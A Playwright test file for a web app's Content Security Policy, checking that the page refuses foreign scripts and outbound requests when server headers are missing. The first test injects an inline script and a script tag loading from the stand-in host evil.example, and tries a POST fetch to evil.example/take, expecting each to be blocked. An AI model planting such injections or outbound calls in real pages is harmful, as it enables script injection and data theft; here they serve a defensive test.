import { expect } from '@playwright/test';

import { dropHeaders } from './fixtures/bareHost.ts';
import { plainByNature } from './fixtures/shells.ts';
import { test } from './fixtures.ts';
import { expectHome } from './journey.ts';

const PLAIN = plainByNature('the policy of the page is the same in every shell');
const FOREIGN = 'https://evil.example';

test(
  'without headers the page runs no foreign code and sends nothing elsewhere [F-B08, F-B02]',
  PLAIN,
  async ({ context, openPlain, world, watch }) => {
    for (const part of ['Content Security Policy', 'policy: ', 'requires '])
      watch.expectConsole(part);
    watch.expectOrigin(FOREIGN);
    const asked: string[] = [];
    await context.route(`${FOREIGN}/**`, (route) => {
      asked.push(route.request().url());
      return route.fulfill({ contentType: 'text/javascript', body: 'window.injected = "foreign"' });
    });
    const injected = `<script>window.injected = 'inline'</script><script src="${FOREIGN}/a.js"></script>`;
    await dropHeaders(context, world.origin, (html) =>
      html.replace('<div id="root">', () => `${injected}<div id="root">`),
    );
    const app = await openPlain();
    await expectHome(app);
    const outcome = await app.frame.evaluate(async (foreign) => {
      const sent = await fetch(`${foreign}/take`, { method: 'POST', mode: 'no-cors' }).then(
        () => 'sent',
        () => 'refused',
      );
      let html = 'taken';
      try {
        document.createElement('p').innerHTML = '<b>1</b>';
      } catch {
        html = 'refused';
      }
      return { injected: 'injected' in window, sent, html };
    }, FOREIGN);
    expect(outcome).toEqual({ injected: false, sent: 'refused', html: 'refused' });
    expect(asked).toEqual([]);
  },
);

test(
  'a backend that the policy does not admit is named in the console [D-162, F-B08]',
  PLAIN,
  async ({ context, openPlain, world, watch, shoot }) => {
    const lines: string[] = [];
    context.on('console', (message) => lines.push(message.text()));
    for (const part of ['Content Security Policy', 'policy: connect-src', '[lobby]'])
      watch.expectConsole(part);
    await dropHeaders(context, world.origin, (html) =>
      html.replace('"apiBase":""', '"apiBase":"https://api.example/v1"'),
    );
    const app = await openPlain('/login');
    await app.player.sees('网站配置有误');
    await expect(app.frame.getByRole('textbox')).toHaveCount(0);
    await shoot(app, 'refused-backend');
    const said = lines.filter((line) => line.startsWith('[lobby]'));
    expect(said).toHaveLength(1);
    expect(said[0]).toMatch(/https:\/\/api\.example.*header.*<meta/);
  },
);
